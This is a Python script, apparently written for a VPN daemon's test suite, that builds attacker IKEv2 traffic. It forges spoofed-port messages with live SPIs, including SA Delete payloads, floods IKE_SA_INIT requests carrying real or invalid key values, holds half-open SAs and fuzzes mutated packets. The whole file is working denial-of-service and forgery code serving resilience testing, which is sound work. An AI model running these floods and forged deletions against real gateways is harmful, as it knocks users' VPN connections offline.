#!/usr/bin/python3
"""Craft IKEv2 datagrams, plausible and hostile, for the tests' attacker:
forged plaintext messages with live SPIs, floods of IKE_SA_INIT requests,
half-open SAs held open at a responder, and mutations of all of these.

  ike_craft.py forge   --src IP --dst IP [--sport P] [--dport P] --spi-i HEX --spi-r HEX
                       --exchange N --flags N --msgid N [--delete-ike] [--count N]
  ike_craft.py flood   --dst IP --count N [--group 19|31] [--random-ports] [--rate R] [--mix]
  ike_craft.py hold    --dst IP --count N [--group 19|31]
  ike_craft.py mutate  --dst IP --count N --spi-i HEX --spi-r HEX --msgid N [--seed S]

Port 4500 gets the four-byte non-ESP marker in front (RFC 3948). Forged
messages leave from a raw socket, so that their source port may be one
a daemon holds (the peer's 500 or 4500). The
IKE_SA_INIT requests propose AES-GCM-16-128, PRF-HMAC-SHA-256 and the
group given, with a real public value, so that a responder must take
them seriously.
"""
import argparse
import os
import random
import socket
import struct
import sys
import time

from cryptography.hazmat.primitives.asymmetric import ec, x25519
from cryptography.hazmat.primitives import serialization

SA, KE, NONCE, NOTIFY, DELETE, SK = 33, 34, 40, 41, 42, 46
IKE_SA_INIT, IKE_AUTH, CREATE_CHILD_SA, INFORMATIONAL = 34, 35, 36, 37
I_FLAG, R_FLAG = 0x08, 0x20


def header(spi_i, spi_r, first, exchange, flags, msgid, body):
    return (spi_i + spi_r + bytes([first, 0x20, exchange, flags]) +
            struct.pack("!II", msgid, 28 + len(body)) + body)


def payloads(items):
    """items: [(type, body)] -> (first type, chain bytes)."""
    out = b""
    for i, (_, body) in enumerate(items):
        nxt = items[i + 1][0] if i + 1 < len(items) else 0
        out += struct.pack("!BBH", nxt, 0, 4 + len(body)) + body
    return (items[0][0] if items else 0), out


def transform(ttype, tid, keylen=None, last=False):
    attrs = struct.pack("!HH", 0x800e, keylen) if keylen else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def ke_value(group):
    if group == 31:
        pub = x25519.X25519PrivateKey.generate().public_key()
        return pub.public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    curve = {19: ec.SECP256R1(), 20: ec.SECP384R1()}[group]
    size = {19: 32, 20: 48}[group]
    nums = ec.generate_private_key(curve).public_key().public_numbers()
    return nums.x.to_bytes(size, "big") + nums.y.to_bytes(size, "big")


def sa_init(group, ke, spi_i=None):
    trans = (transform(1, 20, 128) + transform(2, 5) + transform(4, group, last=True))
    prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(trans), 1, 1, 0, 3) + trans
    first, chain = payloads([(SA, prop),
                             (KE, struct.pack("!HH", group, 0) + ke),
                             (NONCE, os.urandom(32))])
    return header(spi_i or os.urandom(8), bytes(8), first, IKE_SA_INIT, I_FLAG, 0, chain)


def plain(spi_i, spi_r, exchange, flags, msgid, delete_ike):
    items = [(DELETE, struct.pack("!BBH", 1, 0, 0))] if delete_ike else []
    first, chain = payloads(items)
    return header(spi_i, spi_r, first, exchange, flags, msgid, chain)


def udp_checksum(src, dst, udp):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, len(udp))
    data = pseudo + udp + (b"\0" if len(udp) % 2 else b"")
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return (~total & 0xffff) or 0xffff


def raw_send(src, sport, dst, dport, payload):
    """A datagram from SRC:SPORT whatever holds that port (charon does)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    s.bind((src, 0))
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    udp = udp[:6] + struct.pack("!H", udp_checksum(src, dst, udp)) + udp[8:]
    s.sendto(udp, (dst, 0))
    s.close()


def sock(src=None, sport=0):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((src or "0.0.0.0", sport))
    return s


def send(s, msg, dst, dport):
    s.sendto((bytes(4) + msg) if dport == 4500 else msg, (dst, dport))


def mutate(rng, msg):
    m = bytearray(msg)
    for _ in range(rng.randint(1, 6)):
        op = rng.randint(0, 4)
        if op == 0 and m:
            m[rng.randrange(len(m))] = rng.randrange(256)
        elif op == 1 and len(m) > 1:
            del m[rng.randrange(1, len(m)):]
        elif op == 2:
            m += os.urandom(rng.randint(1, 64))
        elif op == 3 and len(m) >= 28:
            struct.pack_into("!I", m, 24, rng.choice([len(m), len(m) + 4, 0, 28, 0xffffffff]))
        elif op == 4 and len(m) >= 32:
            struct.pack_into("!H", m, 30, rng.randrange(65536))
    return bytes(m)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("action", choices=["forge", "flood", "hold", "mutate"])
    ap.add_argument("--dst", required=True)
    ap.add_argument("--src")
    ap.add_argument("--sport", type=int, default=0)
    ap.add_argument("--dport", type=int, default=500)
    ap.add_argument("--spi-i", type=bytes.fromhex)
    ap.add_argument("--spi-r", type=bytes.fromhex)
    ap.add_argument("--exchange", type=int, default=INFORMATIONAL)
    ap.add_argument("--flags", type=int, default=0)
    ap.add_argument("--msgid", type=int, default=0)
    ap.add_argument("--delete-ike", action="store_true")
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--group", type=int, default=19)
    ap.add_argument("--random-ports", action="store_true")
    ap.add_argument("--rate", type=int, default=0, help="flood: datagrams a second (0: all out)")
    ap.add_argument("--mix", action="store_true", help="flood: half with an invalid KE value")
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()

    if a.action == "forge":
        msg = plain(a.spi_i, a.spi_r, a.exchange, a.flags, a.msgid, a.delete_ike)
        if a.dport == 4500:
            msg = bytes(4) + msg
        for _ in range(a.count):
            raw_send(a.src, a.sport or 500, a.dst, a.dport, msg)
        return
    ke = ke_value(a.group)
    if a.action == "flood":
        socks = [sock(a.src) for _ in range(64)] if a.random_ports else [sock(a.src, a.sport)]
        start = time.time()
        # --mix: every other one with a public value that is no point
        # (zeros): refused, but only after the responder made a key pair.
        bad = bytes(len(ke))
        for i in range(a.count):
            send(socks[i % len(socks)], sa_init(a.group, bad if a.mix and i % 2 else ke),
                 a.dst, a.dport)
            if a.rate and i % 50 == 49:
                ahead = start + (i + 1) / a.rate - time.time()
                if ahead > 0:
                    time.sleep(ahead)
        print("flood: %d IKE_SA_INIT in %.1f s from %d ports" %
              (a.count, time.time() - start, len(socks)))
        return
    if a.action == "hold":
        # Requests a responder answers and then waits on: half-open SAs.
        for _ in range(a.count):
            send(sock(a.src), sa_init(a.group, ke_value(a.group)), a.dst, 500)
        return
    rng = random.Random(a.seed)
    bases = [sa_init(a.group, ke)]
    for ex in (INFORMATIONAL, CREATE_CHILD_SA, IKE_AUTH):
        for flags in (0, I_FLAG, R_FLAG, I_FLAG | R_FLAG):
            for d in (-1, 0, 1, 2):
                bases.append(plain(a.spi_i, a.spi_r, ex, flags, max(0, a.msgid + d),
                                   ex == INFORMATIONAL))
    # With the live SPIs and an SK payload of garbage: integrity failures.
    for flags in (0, I_FLAG, R_FLAG):
        first, chain = payloads([(SK, os.urandom(64))])
        bases.append(header(a.spi_i, a.spi_r, first, INFORMATIONAL, flags, a.msgid, chain))
    s500, s4500 = sock(a.src), sock(a.src)
    start = time.time()
    for i in range(a.count):
        msg = mutate(rng, rng.choice(bases))
        if i % 2:
            send(s4500, msg, a.dst, 4500)
        else:
            send(s500, msg, a.dst, 500)
        if i % 500 == 499:
            time.sleep(0.01)	# the socket buffers are not the test
    print("mutate: %d datagrams in %.1f s" % (a.count, time.time() - start))


if __name__ == "__main__":
    sys.exit(main())
